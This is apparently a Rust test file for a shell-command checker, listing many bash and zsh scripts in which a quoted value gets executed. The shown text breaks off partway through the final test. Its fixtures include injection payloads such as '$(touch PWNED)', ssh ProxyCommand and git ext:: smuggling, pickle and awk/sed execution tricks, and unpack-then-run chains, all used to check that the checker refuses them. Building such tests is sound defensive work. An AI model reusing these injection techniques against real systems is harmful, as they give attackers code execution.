//! Where the shell, or a program, reads a value another time: as a list, as a key, as a number, as a name, behind the end of a
//! command or of a line.
//!
//! Each attack acts when its value stands in the script as one quoted word, with real shells and programs, and is refused.

#[path = "common/acting.rs"]
mod acting;
#[path = "common/template.rs"]
mod template;

use acting::{all_act_and_are_refused, is_refused, judged, refuses};
use cycod_shell::{Mode, Shell};

const SHELL: &str = "touch PWNED";
const LIST: &str = "($(touch PWNED))";
const SUBSCRIPT: &str = "$(touch PWNED)";
const NUMBER: &str = "a[$(touch PWNED)]";

/// A text in parentheses is a list where an array gets it from `declare` or one of its relatives.
const LISTS: &[(&str, &str)] = &[
    (r#"declare -a b="{X}""#, LIST),
    (r#"declare -a "b={X}""#, LIST),
    (r#"declare -ax b="{X}""#, LIST),
    (r#"declare -A b="{X}""#, "([a]=$(touch PWNED))"),
    (r#"x="{X}"; declare -a b="$x""#, LIST),
    (r#"x="{X}"; declare -a b="($x)""#, SUBSCRIPT),
    (r#"x="{X}"; declare -a "b=($x)""#, SUBSCRIPT),
    (r#"x="{X}"; declare -a 'b=($(eval "$x"))'"#, SHELL),
    (r#"x="{X}"; declare -a b; declare b="$x""#, LIST),
    (r#"x="{X}"; declare -A b; declare b="$x""#, "([a]=$(touch PWNED))"),
    (r#"x="{X}"; b=(1); declare b="$x""#, LIST),
    (r#"x="{X}"; b[2]=1; declare b="$x""#, LIST),
    (r#"f() { local -a b="$1"; }; f "{X}""#, LIST),
    (r#"f() { local b=(1); local b="$1"; }; f "{X}""#, LIST),
    (r#"f() { readonly -a b="$1"; }; f "{X}""#, LIST),
    (r#"f() { local -a b="${1#a}"; }; f "{X}""#, "a($(touch PWNED))"),
    (r#"f() { local -a b="${1//a/}"; }; f "{X}""#, "a($(touch PWNED))"),
    (r#"readonly -a b="{X}""#, LIST),
    (r#"export -a b="{X}""#, LIST),
    (r#"typeset -a b="{X}""#, LIST),
    (r#"x="{X}"; declare -a b="$(echo "$x")""#, LIST),
];

/// Code of `awk` and `sed` that runs what it reads.
const COMMANDS: &[(&str, &str)] = &[
    (r#"echo "{X}" | awk '{ system($0) }'"#, SHELL),
    (r#"awk -v c="{X}" 'BEGIN { system("echo " c) }'"#, "; touch PWNED"),
    (r#"C="{X}" awk 'BEGIN { ENVIRON["C"] | getline; print }'"#, SHELL),
    (r#"echo "{X}" | awk '{ print "echo " $0 | "sh" }'"#, "; touch PWNED"),
    (r#"echo "{X}" > f; awk '{ ("date -d " $0) | getline d }' f"#, "; touch PWNED"),
    (r#"echo "{X}" | sed 's/^/echo /e'"#, "; touch PWNED"),
    (r#"echo "{X}" | sed -n -e '1{/touch/e' -e '}'"#, SHELL),
];

/// The keys of an array are texts.
const KEYS: &[(&str, &str)] = &[
    (r#"declare -A a; a["{X}"]=1; for k in "${!a[@]}"; do eval "$k"; done"#, SHELL),
    (r#"x="{X}"; declare -A a; a[$x]=1; "${!a[@]}" PWNED"#, "touch"),
    (r#"x="{X}"; declare -A a; a[$x]+=1; eval "${!a[*]}""#, SHELL),
    (r#"x="{X}"; declare -A a=([$x]=1); eval "${!a[@]}""#, SHELL),
    (r#"declare -A a=("{X}" 1); "${!a[@]}" PWNED"#, "touch"),
    (r#"x="{X}"; declare -A a; ((a[$x]++)); for k in "${!a[@]}"; do $k; done"#, SHELL),
    (r#"x="{X}"; declare -A a; let "a[$x]++"; for k in "${!a[@]}"; do $k; done"#, SHELL),
    (r#"x="{X}"; declare -A a; : "${a[$x]:=1}"; for k in "${!a[@]}"; do $k; done"#, SHELL),
    (r#"x="{X}"; declare -A a; a[$x]=1; set -- "${a[@]@k}"; eval "$1""#, SHELL),
    (r#"x="{X}"; declare -A a; a[$x]=1; for k in "${!a[@]}"; do unset "a[$k]"; done"#, SUBSCRIPT),
    (r#"x="{X}"; declare -A a; a[$x]=1; for k in "${!a[@]}"; do sort /dev/null "$k"; done"#, "-oPWNED"),
    (r#"x="{X}"; declare -A a; a[$x]=1; k=("${!a[@]}"); bash -c "${k[0]}""#, SHELL),
];

/// A subscript in a word of a builtin.
const SUBSCRIPTS: &[(&str, &str)] = &[
    (r#"x="{X}"; declare "a[$x]=3""#, SUBSCRIPT),
    (r#"x="{X}"; declare -A a; declare "a[$x]=3""#, SUBSCRIPT),
    (r#"x="{X}"; f() { local "a[$x]=1"; }; f"#, SUBSCRIPT),
    (r#"x="{X}"; declare "a[x]=3""#, NUMBER),
];

/// What is calculated, and by which name.
const CALCULATED: &[(&str, &str)] = &[
    (r#"RANDOM="{X}""#, NUMBER),
    (r#"export RANDOM="{X}""#, NUMBER),
    (r#"x="{X}"; RANDOM=x"#, NUMBER),
    (r#"for RANDOM in "{X}"; do :; done"#, NUMBER),
    (r#"read -r RANDOM <<< "{X}""#, NUMBER),
    (r#"OPTIND="{X}""#, NUMBER),
    (r#"SRANDOM="{X}""#, NUMBER),
    (r#"HISTCMD="{X}""#, NUMBER),
    (r#"declare -ai a; a=("{X}")"#, NUMBER),
    (r#"declare -ai a; mapfile -t a <<< "{X}"; : "$((a))""#, NUMBER),
    (r#"x="{X}"; y=x; echo $((y))"#, NUMBER),
    (r#"x="{X}"; y=x; z=y; echo $((z))"#, NUMBER),
    (r#"x="{X}"; y=x; echo $(($y))"#, NUMBER),
    (r#"x="{X}"; y=x; [[ $y -gt 0 ]]"#, NUMBER),
    (r#"x="{X}"; a=(1 2 3); echo "${a[@]:x:1}""#, NUMBER),
    (r#"x="{X}"; a=(1 2 3); echo "${a[@]:0:$x}""#, NUMBER),
    (r#"x="{X}"; set -- 1 2; echo "${@:$x}""#, NUMBER),
];

/// A name that stands for a variable, and for more than one.
const NAMES: &[(&str, &str)] = &[
    (r#"set -- "{X}"; n=@; eval "${!n}""#, SHELL),
    (r#"a=("{X}"); n='a[0]'; eval "${!n}""#, SHELL),
    (r#"a=("{X}"); n='a[@]'; "${!n}" PWNED"#, "touch"),
    (r#"declare -n r; r=v; r="{X}"; eval "$v""#, SHELL),
    (r#"v="{X}"; n=v; : "${!n@P}""#, SUBSCRIPT),
    (r#"x="{X}"; n=none; eval "${!n:-$x}""#, SHELL),
    (r#"x="{X}"; eval "${none[@]:-$x}""#, SHELL),
    (r#"x="{X}"; set --; eval "${@:-$x}""#, SHELL),
    (r#"x="{X}"; a=(b); eval "${a[@]/b/$x}""#, SHELL),
    (r#"(x="{X}"; : "${none:?$x}") 2>&1 | sed 's/.*: //' | bash"#, SHELL),
];

/// The script says what the name of a command means.
const RENAMED: &[(&str, &str)] = &[
    ("shopt -s expand_aliases\nalias echo=eval\necho \"{X}\"", SHELL),
    ("shopt -s expand_aliases\nalias ls='sh -c'\nls \"{X}\"", SHELL),
    (r#"BASH_CMDS[ls]=/bin/sh; ls -c "{X}""#, SHELL),
    ("shopt -s expand_aliases\nBASH_ALIASES[ls]=eval\nls \"{X}\"", SHELL),
    (r#"hash -p /bin/sh ls; ls -c "{X}""#, SHELL),
    (r#"ln -s /bin/sh grep; ./grep -c "{X}""#, SHELL),
    (r#"cp /bin/sh g; mv g grep; find . -name grep -exec {} -c "{X}" \;"#, SHELL),
    (r#"install -m 755 "$(command -v sh)" grep; PATH=.:$PATH; grep -c "{X}""#, SHELL),
    (r#"f() { ln -s "$1" "$2"; }; f /bin/sh grep; ./grep -c "{X}""#, SHELL),
    (r#"dd if=/bin/sh of=grep; chmod +x grep; ./grep -c "{X}""#, SHELL),
    (r#"rsync /bin/dash grep; ./grep -c "{X}""#, SHELL),
    (r#"curl -so grep file:///bin/sh; chmod +x grep; ./grep -c "{X}""#, SHELL),
    (r#"curl -sogrep file:///bin/sh; chmod +x grep; ./grep -c "{X}""#, SHELL),
    (r#"cat /bin/sh > grep; chmod +x grep; ./grep -c "{X}""#, SHELL),
    (r#"cat /bin/sh | tee grep > /dev/null; chmod +x grep; ./grep -c "{X}""#, SHELL),
    (r#"printf 'eval "$2"' > grep; chmod +x grep; PATH=.:$PATH; grep -c "{X}""#, SHELL),
    (r#"echo 'ls() { eval "$1"; }' > l; . ./l; ls "{X}""#, SHELL),
    (r#"echo 'ls() { eval "$1"; }' > l; BASH_ENV=./l bash -c 'ls "$1"' _ "{X}""#, SHELL),
    (
        r#"echo 'alias ls=eval' | tee l; shopt -s expand_aliases; . ./l
        ls "{X}""#,
        SHELL,
    ),
];

/// Builtins that run what they are given.
const CALLED: &[(&str, &str)] = &[
    (r#"mapfile -C eval -c 1 a <<< "{X}""#, "; touch PWNED"),
    (r#"mapfile -Ceval -c1 a <<< "{X}""#, "; touch PWNED"),
    (r#"readarray -t -C "sh -c 'eval \$1'" -c 1 a <<< "{X}""#, SHELL),
    (r#"c=eval; mapfile -C "$c" -c 1 a <<< "{X}""#, "; touch PWNED"),
    (r#"jobs -x "{X}" PWNED"#, "touch"),
    (r#"jobs -x sh -c "{X}""#, SHELL),
];

const ZSH: &[(&str, &str)] = &[
    (r#"read -t "{X}" a"#, "path[$(touch PWNED)]"),
    (r#"typeset -T A b; A="{X}"; $b PWNED"#, "touch"),
    (r#"coproc echo "{X}"; read -p l; eval "$l""#, SHELL),
];

/// What a program does with one of its words.
const PROGRAMS: &[(&str, &str)] = &[
    // Its descriptor is gone when it has ended.
    (r#"coproc { echo "{X}"; sleep 2; }; sh <&"${COPROC[0]}""#, SHELL),
    (r#"coproc { echo "{X}"; sleep 2; }; read -r line <&"${COPROC[0]}"; eval "$line""#, SHELL),
    (
        r#"git init -q .; export K="{X}"; GIT_SSH_COMMAND='ssh -i $K' git fetch h:a"#,
        "a -oProxyCommand=touch${IFS}PWNED",
    ),
    (
        r#"git init -q .; export K="{X}"; git -c core.sshCommand='ssh -i $K' fetch h:a"#,
        "a -oProxyCommand=touch${IFS}PWNED",
    ),
    (r#"git init -q .; export K="{X}"; git -c alias.a='!eval "$K"' a"#, SHELL),
    (r#"git init -q .; export K="{X}"; GIT_EDITOR='eval "$K" #' git commit --allow-empty"#, SHELL),
    (
        r#"echo 'int system(const char *); int main() { return V; }' > a.c; gcc -DV="{X}" a.c; ./a.out"#,
        "system(\"touch PWNED\")",
    ),
    (r#"ssh -o BatchMode=yes -J "{X}" localhost"#, "$(touch${IFS}PWNED)h"),
    (r#"scp -o BatchMode=yes -J "{X}" localhost:a b"#, "$(touch${IFS}PWNED)h"),
    (r#"parallel --results "{X}" echo ::: a"#, r#"r{= system("touch PWNED") =}"#),
    (
        r#"tmux -L cycod-test new-session -d; tmux -L cycod-test has-session -t "{X}" run-shell "touch '$PWD/PWNED'"; tmux -L cycod-test kill-server"#,
        "0;",
    ),
    (r#"git init -q .; git -c protocol.ext.allow=always remote show "{X}""#, "ext::touch PWNED"),
    (r#"printf 'c__builtin__\neval\n(S"open(%s)"\ntR.' "'PWNED','w'" > p; python3 -m pickle "{X}""#, "p"),
    (
        r#"mkdir -p d/devx; printf 'res 72000\nhor 1\nvert 1\nsizescale 1\nsizes 1-1000000 0\nfonts 1 R\nunitwidth 1000\npostpro touch\ntcommand\n' > d/devx/DESC; printf 'name R\nspacewidth 1\ncharset\na 1 0 1\n' > d/devx/R; echo a > a; GROFF_FONT_PATH="{X}" groff -Tx -P PWNED a"#,
        "d",
    ),
    (
        r#"printf 'a\tf\t1\n' > GTAGS; echo a > f; export LESSGLOBALTAGS="{X}"; script -qc 'less -T GTAGS -t a' /dev/null"#,
        "touch PWNED;",
    ),
    ("echo \"open('PWNED', 'w')\" > g.py; python3 -m inspect \"{X}\"", "g"),
];

/// What runs is what a value decides to unpack, or the file that it decides to fetch.
const UNPACKED: &[(&str, &str)] = &[
    (
        r#"mkdir s; echo 'touch PWNED' > s/run.sh; tar -cf a.tar -C s .; mkdir r; tar -xf "{X}" -C r; mv r app; sh app/run.sh"#,
        "a.tar",
    ),
    (
        r#"mkdir s; echo 'touch PWNED' > s/run.sh; tar -cf a.tar -C s .; mkdir r; tar -xf "{X}" -C r; ln -sfn r current; sh current/run.sh"#,
        "a.tar",
    ),
    (
        r#"mkdir s; printf 'all:\n\ttouch PWNED\n' > s/Makefile; tar -cf a.tar -C s .; rm s/Makefile; mkdir r; tar -xf "{X}" -C r; for d in */; do make -s -C "$d"; done; mv r/PWNED ."#,
        "a.tar",
    ),
    (
        r#"mkdir s; echo 'touch PWNED' > s/run.sh; tar -cf a.tar -C s .; mkdir r; tar -xf "{X}" -C r; find r -name '*.sh' -exec sh {} \;"#,
        "a.tar",
    ),
    (
        r#"mkdir s; echo 'BEGIN { system("touch PWNED") }' > s/a.awk; tar -cf a.tar -C s .; mkdir r; tar -xf "{X}" -C r; awk -f r/a.awk"#,
        "a.tar",
    ),
    (
        r#"mkdir s; echo 'touch PWNED' > s/run.sh; tar -cf a.tar -C s .; python3 -m tarfile -e "{X}" out; sh out/run.sh"#,
        "a.tar",
    ),
    (r#"mkdir s; echo 'touch PWNED' > s/run.sh; tar -cf a.tar -C s run.sh; tar -xf "{X}"; sh run.sh"#, "a.tar"),
    (r#"mkdir s; echo 'touch PWNED' > s/run.sh; tar -czf a.tgz -C s run.sh; tar xzf "{X}"; sh ./run.sh"#, "a.tgz"),
    (
        r#"mkdir s r; echo 'touch PWNED' > s/run.sh; tar -cf a.tar -C s run.sh; tar -xf "{X}" -C r; sh r/run.sh"#,
        "a.tar",
    ),
    (r#"mkdir s; echo 'touch PWNED' > s/run.sh; tar -cf a.tar -C s run.sh; cat "{X}" | tar -x; sh run.sh"#, "a.tar"),
    (r#"mkdir s; echo 'touch PWNED' > s/run.sh; tar -cf a.tar -C s run.sh; tar -x < "{X}"; sh run.sh"#, "a.tar"),
    (
        r#"mkdir s; echo 'touch PWNED' > s/run.sh; tar -cf a.tar -C s run.sh; curl -s "file://$PWD/{X}" | tar -x; sh run.sh"#,
        "a.tar",
    ),
    (
        r#"mkdir s; echo 'touch PWNED' > s/run.sh; tar -cf a.tar -C s run.sh; curl -so b.tar "file://$PWD/{X}"; tar -xf b.tar; sh run.sh"#,
        "a.tar",
    ),
    (r#"mkdir s; echo 'touch PWNED' > s/run.sh; (cd s; zip -q ../a.zip run.sh); unzip -q "{X}"; sh run.sh"#, "a.zip"),
    (
        r#"mkdir s; echo 'touch ../PWNED' > s/run.sh; (cd s; zip -q ../a.zip run.sh); unzip -q "{X}" -d r; cd r; sh run.sh"#,
        "a.zip",
    ),
    (
        r#"mkdir s; echo 'touch "$D/PWNED"' > s/run.sh; export D=$PWD; d=$(mktemp -d); tar -cf a.tar -C s run.sh; tar -xf "{X}" -C "$d"; sh "$d/run.sh""#,
        "a.tar",
    ),
    (
        r#"mkdir s; printf 'all:\n\ttouch PWNED\n' > s/Makefile; tar -cf a.tar -C s Makefile; tar -xf "{X}"; make"#,
        "a.tar",
    ),
    (
        r#"git init -q s; (cd s; printf 'all:\n\ttouch ../PWNED\n' > Makefile; git add .; git commit -qm a); git clone -q "{X}" r; make -C r"#,
        "s",
    ),
    (
        r#"git init -q s; (cd s; printf 'all:\n\ttouch ../PWNED\n' > Makefile; git add .; git commit -qm a); git clone -q "{X}" r && cd r && make"#,
        "s",
    ),
    (
        r#"git init -q s; (cd s; echo 'touch ../PWNED' > run.sh; git add .; git commit -qm a); mkdir r; cd r; git init -q .; git pull -q ../"{X}" HEAD; sh run.sh; touch -c ../PWNED"#,
        "s",
    ),
    (
        r#"mkdir s bin; printf '#!/bin/sh\ntouch PWNED\n' > s/tool; chmod +x s/tool; tar -cf a.tar -C s tool; tar -xf "{X}" -C bin; PATH=$PWD/bin:$PATH; tool"#,
        "a.tar",
    ),
    (r#"mkdir s; echo 'touch PWNED' > s/run.sh; cp -r "{X}" r; sh r/run.sh"#, "s"),
    (
        r#"git init -q s; (cd s; printf 'all:\n\ttouch PWNED\n' > Makefile; git add .; git commit -qm a); git clone -q "{X}" "$HOME/r" && make -f "$HOME/r/Makefile""#,
        "s",
    ),
    (r#"mkdir s; echo 'touch PWNED' > s/run.sh; curl -sO "file://$PWD/{X}"; sh run.sh"#, "s/run.sh"),
    (r#"printf -- '--- /dev/null\n+++ b/run.sh\n@@ -0,0 +1 @@\n+touch PWNED\n' > p; git apply "{X}"; sh run.sh"#, "p"),
    (r#"mkdir s; echo 'touch PWNED' > s/run.sh; mv "{X}" r; sh r/run.sh"#, "s"),
    (r#"mkdir s; echo 'touch PWNED' > s/run.sh; ln -s "{X}" r; sh r/run.sh"#, "s"),
    (r#"mkdir s; echo 'touch PWNED' > s/run.sh; rsync -a "{X}/" r/; sh r/run.sh"#, "s"),
    (r#"mkdir s; echo 'touch PWNED' > s/run.sh; curl -sO "file://$PWD/{X}/run.sh"; sh run.sh"#, "s"),
];

/// What runs stands in a file that a value names, and the shell opens that file.
const OPENED: &[(&str, &str)] = &[
    (r#"echo touch PWNED > p; cat < "{X}" | sh"#, "p"),
    (r#"echo touch PWNED > p; sed s/a/a/ < "{X}" > q; sh q"#, "p"),
    (r#"echo touch PWNED > p; eval "$(< "{X}")""#, "p"),
    (r#"echo touch PWNED > p; eval "$(tr A B < "{X}")""#, "p"),
    (r#"echo touch PWNED > p; read -r l < "{X}"; eval "$l""#, "p"),
    (r#"echo touch PWNED > p; while read -r l; do $l; done < "{X}""#, "p"),
    (r#"echo touch PWNED > p; while read -r l; do echo "$l"; done < "{X}" | sh"#, "p"),
    (r#"echo touch PWNED > p; mapfile -t a < "{X}"; sh -c "${a[0]}""#, "p"),
    (r#"echo touch PWNED > p; xargs -I% sh -c % < "{X}""#, "p"),
    (r#"echo touch PWNED > p; exec 3< "{X}"; sh <&3"#, "p"),
    (r#"echo touch PWNED > p; exec < "{X}"; sh"#, "p"),
    (r#"echo touch PWNED > p; { cat | sh; } < "{X}""#, "p"),
    (r#"echo touch PWNED > p; f() { cat; }; f < "{X}" | sh"#, "p"),
];

/// What is fetched into a repository becomes its files when something takes it from there.
const FETCHED: &[&str] = &[
    r#"git fetch -q "{X}" HEAD; git checkout -q FETCH_HEAD; make"#,
    r#"git fetch -q "{X}" HEAD; git merge -q FETCH_HEAD; make"#,
    r#"git fetch -q "{X}" HEAD; git reset -q --hard FETCH_HEAD; make"#,
    r#"git fetch -q "{X}" HEAD; git checkout -q -b a FETCH_HEAD; sh run.sh"#,
    r#"git fetch -q "{X}" HEAD:a; git checkout -q a; make"#,
    r#"git fetch -q "{X}" HEAD:refs/heads/a; git switch -q a; . ./run.sh"#,
    r#"git fetch -q "{X}" HEAD; git restore -s FETCH_HEAD .; make"#,
    r#"git fetch -q "{X}" HEAD; git cherry-pick FETCH_HEAD; make"#,
    r#"git fetch -q "{X}" HEAD; git read-tree -u --reset FETCH_HEAD; make"#,
    r#"git fetch -q "{X}" HEAD; git worktree add -q w FETCH_HEAD; make -C w CANARY="$PWD/../PWNED""#,
    r#"git remote add o "{X}"; git fetch -q o; git checkout -q "o/$(git -C ../s branch --show-current)"; make"#,
    r#"git remote add o "{X}"; git pull -q o HEAD; make"#,
    r#"git remote add o .; git remote set-url o "{X}"; git fetch -q o HEAD; git merge -q FETCH_HEAD; make"#,
    r#"git pull -q "{X}" HEAD; make"#,
    r#"git -c protocol.file.allow=always submodule --quiet add "$PWD/{X}" m; make -C m CANARY="$PWD/../PWNED""#,
    r#"cd ..; git -C r fetch -q "{X}" HEAD; git -C r checkout -q FETCH_HEAD; make -C r"#,
    r#"git clone -q "$PWD/{X}"; for d in */; do make -C "$d" CANARY="$PWD/../PWNED"; done"#,
    r#"git clone -q "$PWD/{X}" t; for d in *; do make -C "$d" CANARY="$PWD/../PWNED"; done"#,
    r#"git clone -q "$PWD/{X}" t; d=$(ls); make -C "$d" CANARY="$PWD/../PWNED""#,
    r#"git clone -q "$PWD/{X}"; find . -maxdepth 1 -type d -exec make -C {} CANARY="$PWD/../PWNED" \;"#,
    r#"git clone -q "$PWD/{X}"; for d in */; do (cd "$d"; make CANARY=../../PWNED); done"#,
    r#"git clone -q "$PWD/{X}" t; for d in *; do (cd "$d"; make CANARY=../../PWNED); done"#,
    r#"git clone -q "$PWD/{X}" t; for d in *; do sh "$d/run.sh"; done"#,
    r#"git clone -q "$PWD/{X}" t; sh */run.sh"#,
    r#"git clone -q "$PWD/{X}" t; cat */run.sh | sh"#,
    r#"find "{X}" -name Makefile -exec cp {} . \;; make"#,
    r#"find "{X}" -type f -exec cp -t . {} +; make"#,
    // What is read of it.
    r#"git clone -q "$PWD/{X}" t; cat t/run.sh | sh"#,
    r#"git clone -q "$PWD/{X}" t; sh < t/run.sh"#,
    r#"git clone -q "$PWD/{X}" t; sh -c "$(cat t/run.sh)""#,
    r#"git clone -q "$PWD/{X}" t; eval "$(< t/run.sh)""#,
    r#"git clone -q "$PWD/{X}" t; read -r a < t/run.sh; eval "$a""#,
    r#"git clone -q "$PWD/{X}" t; mapfile -t a < t/run.sh; sh -c "${a[0]}""#,
    r#"git clone -q "$PWD/{X}" t; while read -r a; do sh -c "$a"; done < t/run.sh"#,
    r#"git clone -q "$PWD/{X}" t; sed s/a/a/ t/run.sh > a; sh a"#,
    r#"git clone -q "$PWD/{X}" t; python3 -c 'print(open("t/run.sh").read())' | sh"#,
    r#"git clone -q "$PWD/{X}" t; grep -rh touch t | grep -v CANARY | sh"#,
    r#"git clone -q "$PWD/{X}" t; git -C t show HEAD:run.sh | sh"#,
    r#"git clone -q "$PWD/{X}" t; xargs -a t/run.sh env"#,
    r#"git clone -q "$PWD/{X}" t; (cd t; cat run.sh) | sh"#,
    r#"git fetch -q "{X}" HEAD; git show FETCH_HEAD:run.sh | sh"#,
];

/// The same by programs that are not installed everywhere.
const FETCHED_BY_OTHERS: &[&str] = &[
    r#"gh pr checkout "{X}"; make"#,
    r#"gh pr checkout "{X}" && npm test"#,
    r#"gh gist clone "{X}" g; sh g/a.sh"#,
    r#"gh gist clone "{X}"; for d in */; do make -C "$d"; done"#,
    r#"gh release download -R "{X}"; ./install.sh"#,
    r#"gh release download "{X}" -D bin; bin/a"#,
    r#"gh run download "{X}"; make"#,
    r#"svn checkout "{X}" r; make -C r"#,
    r#"svn co "{X}"; for d in */; do make -C "$d"; done"#,
    r#"svn export "{X}" r; sh r/a.sh"#,
    r#"svn switch "{X}"; make"#,
];

/// A path of a package that is installed or built.
const BUILT: &[&str] = &[
    "pip install ./r",
    "pip install -e r",
    "pip install './r[test]'",
    "python3 -m pip install ./r",
    "pip wheel ./r",
    "pip install -r r/requirements.txt",
    "uv pip install ./r",
    "pipx install ./r",
    "npm install ./r",
    "npm ci --prefix r",
    "pnpm add ./r",
    "yarn add ./r",
    "gem install r/a.gem",
    "brew install ./r/a.rb",
    "sudo apt-get install -y ./r/a.deb",
    "dpkg -i r/a.deb",
    "docker build r",
    "docker build -t a ./r",
    "docker build -f r/Dockerfile .",
    "docker buildx build --push -t a r",
    "podman build r",
    "docker compose -f r/compose.yaml up",
    "cargo install --path r",
    "go test ./r/...",
    "ansible-galaxy install ./r",
];

/// What a shell runs when it starts, or at a time, is code.
const STARTED: &[(&str, &str)] = &[
    (r#"echo "export A={X}" >> ~/.bashrc; env -i HOME="$HOME" PATH="$PATH" bash -ic true"#, SUBSCRIPT),
    (
        r#"printf 'export A="%s"\n' "{X}" >> "$HOME/.profile"; env -i HOME="$HOME" PATH="$PATH" bash -lc true"#,
        SUBSCRIPT,
    ),
    (r#"echo "alias a='{X}'" | tee -a ~/.zshenv; zsh -c true"#, "'; touch PWNED; '"),
    (
        r#"git init -q .; printf '#!/bin/sh\necho %s\n' "{X}" > .git/hooks/pre-commit; chmod +x .git/hooks/pre-commit; git commit -q --allow-empty -m a"#,
        SUBSCRIPT,
    ),
];

#[track_caller]
fn check(attacks: &[(&str, &str)]) {
    let attacks: Vec<_> = attacks.iter().map(|(script, value)| (Shell::Bash, *script, *value)).collect();
    all_act_and_are_refused(&attacks);
}

#[test]
fn a_text_becomes_a_list() {
    check(LISTS);
}

#[test]
fn code_of_awk_and_sed_runs_what_it_reads() {
    check(COMMANDS);
    for script in [
        r#"awk -v n="{X}" '$1 == n || /total|sum/ { print | "sort -n" }' f"#,
        r#"echo "{X}" | awk '/a|b/ { print $1; system("date") }'"#,
        r#"awk -v n="{X}" 'BEGIN { "date" | getline d; print d, n }'"#,
        r#"echo "{X}" | sed -E 's/(e|f)/e/g; /e/!s/ /-/'"#,
        r#"printf '%s' "{X}" | sed -e '1i e' -e 's/a/b/'"#,
    ] {
        assert!(!is_refused(Shell::Bash, script, "a"), "{script}: {:?}", judged(Shell::Bash, script).command);
    }
}

#[test]
fn a_key_is_a_value() {
    check(KEYS);
}

#[test]
fn a_subscript_is_read_twice() {
    check(SUBSCRIPTS);
}

#[test]
fn a_name_that_is_calculated_is_followed() {
    check(CALCULATED);
}

#[test]
fn a_name_may_stand_for_more_than_a_variable() {
    check(NAMES);
}

#[test]
fn a_command_of_another_meaning_is_not_known() {
    check(RENAMED);
}

#[test]
fn a_builtin_runs_what_it_is_given() {
    check(CALLED);
}

#[test]
fn zsh_reads_again() {
    let attacks: Vec<_> = ZSH.iter().map(|(script, value)| (Shell::Zsh, *script, *value)).collect();
    all_act_and_are_refused(&attacks);
}

#[test]
fn a_program_reads_again() {
    check(PROGRAMS);
}

#[test]
fn what_a_value_unpacks_does_not_run() {
    check(UNPACKED);
    for script in [
        r#"wget "https://a.test/{X}/run.sh"; sh run.sh"#,
        r#"gh repo clone "{X}" r; make -C r"#,
        r#"docker cp "a:{X}" r; sh r/run.sh"#,
        r#"aws s3 sync "s3://{X}" r; sh r/run.sh"#,
        r#"git clone "https://a.test/{X}.git"; cd "{X}"; npm ci"#,
        r#"tar xzf "{X}"; eslint ."#,
        r#"git clone "{X}" r; cargo build --manifest-path r/Cargo.toml"#,
        r#"git clone "{X}" r; . r/env.sh"#,
        r#"f() { git clone "$1" "$2"; make -C "$2"; }; f "{X}" r"#,
        r#"bash -c 'git clone "$1" r && make -C r' _ "{X}""#,
        r#"bash -c 'git clone "$1" r' _ "{X}"; bash -c 'make -C r'"#,
        r#"cat "{X}" | ssh web 'tar x && sh run.sh'"#,
        r#"jar xf "{X}"; sh run.sh"#,
        r#"ar x "{X}"; sh run.sh"#,
        r#"dpkg -x "{X}" d; d/bin/x"#,
        r#"dpkg-deb -R "{X}" d; sh d/DEBIAN/postinst"#,
        r#"gsutil cp -r "{X}" d; sh d/run.sh"#,
        r#"kubectl cp "{X}" d; sh d/run.sh"#,
    ] {
        assert!(is_refused(Shell::Bash, script, "a"), "{script}");
    }
    for script in [
        r#"git clone "{X}" r; ./scripts/scan.sh r"#,
        r#"git clone "{X}" "$tmp/r"; ./scripts/scan.sh "$tmp/r""#,
        r#"git clone --depth 1 "{X}" && ls"#,
        r#"git clone "https://a.test/{X}.git" && cd "{X}" && git log -3"#,
        r#"git clone "{X}" r && cd r && grep -rn TODO . && git pull"#,
        r#"git clone -b "{X}" https://a.test/b.git r && make -C r"#,
        r#"git pull origin "{X}" && make"#,
        r#"tar xzf "{X}" -C out && ls out"#,
        r#"tar czf "{X}" dist && ./scripts/upload.sh"#,
        r#"git clone "{X}" r; python3 tools/scan.py r"#,
        r#"git clone "{X}" r; eslint r"#,
        r#"tar tf "{X}" && make"#,
        r#"git apply --check "{X}" && make"#,
        r#"curl -fsSL "https://a.test/v{X}/a.tgz" | sudo tar xz -C /usr/local/bin && a-tool --version"#,
        r#"sh -c 'tar xzf "$1" -C out && ls out' _ "{X}""#,
        r#"tar cz -C "{X}" . | ssh web 'tar xz -C /srv'"#,
        r#"tar cz -C "{X}" . | ssh web 'tar xz -C /srv/app' && ssh web 'ls /srv/app'"#,
        r#"unzip -o "{X}" -d site && rsync -a site/ h:/srv && make"#,
        r#"cp "{X}" app.conf && make"#,
        r#"wget -qO- "https://a.test/{X}" | jq . && make"#,
        r#"wget "https://a.test/{X}.csv" && python3 analyse.py"#,
    ] {
        assert!(!is_refused(Shell::Bash, script, "a"), "{script}: {:?}", judged(Shell::Bash, script).command);
    }
}

#[test]
fn what_stands_in_a_file_that_a_value_names_does_not_run() {
    check(OPENED);
    // A compiler names what it makes after the file that it reads.
    for script in [
        r#"rustc "{X}"; ./main"#,
        r#"rustc --out-dir bin "{X}"; bin/main"#,
        r#"javac "{X}"; java A"#,
        r#"javac -cp libs -d out "{X}"; java -cp out A"#,
        r#"go build "{X}"; ./main"#,
        r#"tsc "{X}"; node main.js"#,
        r#"tsc --rootDir src --outDir dist "{X}"; node dist/main.js"#,
        r#"esbuild "{X}" --bundle --outfile=main.js; node main.js"#,
        r#"babel "{X}" -d dist; node dist/main.js"#,
        r#"luac "{X}"; lua luac.out"#,
        // `find` finds it, or `xargs` reads it.
        r#"find "{X}" -name '*.sh' -exec sh {} \;"#,
        r#"find "{X}" -type f -exec {} \;"#,
        r#"find . -maxdepth 0 -exec cp "{X}" run \; -exec sh run \;"#,
        r#"find . -maxdepth 0 -exec sh run \; -exec cp "{X}" run \;"#,
        r#"find . -maxdepth 0 -exec sudo cp "{X}" run \; -exec env A=1 sh run \;"#,
        r#"find "{X}" -name '*.awk' -exec awk -f {} data \;"#,
        r#"xargs -a "{X}" -I% sh -c 'echo %'"#,
        r#"xargs --arg-file="{X}" env"#,
        r#"split --filter=sh "{X}""#,
        r#"tar -xf "{X}" --to-command=sh"#,
        r#"awk -f "{X}" data"#,
        r#"psql -f "{X}""#,
        // Unpackers.
        r#"python3 -m zipfile -e "{X}" out; sh out/run.sh"#,
        r#"python3 -m tarfile -e "{X}"; sh run.sh"#,
        r#"7z x "{X}"; sh run.sh"#,
        r#"7z x -oout "{X}"; sh out/run.sh"#,
        r#"unar "{X}"; sh run.sh"#,
        r#"unzip "{X}"; python3 -c 'import json'"#,
        r#"unzip "{X}" -d r; cd r; python3 -m json.tool a.json"#,
    ] {
        assert!(is_refused(Shell::Bash, script, "a"), "{script}");
    }
    for script in [
        r#"wc -l < "{X}""#,
        r#"n=$(wc -l < "{X}"); echo $((n + 1))"#,
